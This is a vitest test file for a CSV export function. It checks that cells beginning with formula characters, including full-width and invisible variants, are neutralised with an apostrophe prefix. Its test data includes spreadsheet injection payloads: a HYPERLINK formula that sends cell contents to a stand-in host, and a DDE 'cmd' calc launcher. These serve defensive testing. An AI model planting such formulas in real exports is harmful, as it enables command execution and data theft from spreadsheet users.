import { expect, test } from 'vitest'
import { csv } from './csv.ts'

const only = (value: string | number) => csv([[value]]).replace(/^\ufeff|\r\n$/g, '')

test.each([
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("https://x.example/"&A1,"read on")', `"'=HYPERLINK(""https://x.example/""&A1,""read on"")"`],
  ['+441632960000', `"'+441632960000"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  [' =1+1', `"' =1+1"`],
  ['\u00a0=1+1', `"'\u00a0=1+1"`],
  ['\t=1', `"'\t=1"`],
  ['\rx', `"'\rx"`],
  ['\nx', `"'\nx"`],
  ['＝1+1', `"'＝1+1"`],
  ['＋1', `"'＋1"`],
  ['－1', `"'－1"`],
  ['＠x', `"'＠x"`],
  ['\u200b=1+1', `"'\u200b=1+1"`],
  ["x;=cmd|'/C calc'!A0;y", `"x;'=cmd|'/C calc'!A0;y"`],
  ['x; @SUM(A1)', `"x;' @SUM(A1)"`],
  ['x\n-1', `"x\n'-1"`],
  ["'=1", `"'=1"`],
  ['“A desk is a promise”', '"“A desk is a promise”"'],
  ['1 = 1', '"1 = 1"'],
  ['a, "b"; c', '"a, ""b""; c"'],
  ['two\nlines', '"two\nlines"'],
  ['', '""'],
  [-3, '-3'],
])('%j is written %j', (value, written) => {
  expect(only(value)).toBe(written)
})

test('a row is a line, and Excel is told that it is UTF-8', () => {
  expect(
    csv([
      ['a', 'b'],
      ['ö', 2],
    ]),
  ).toBe('\ufeff"a","b"\r\n"ö",2\r\n')
})
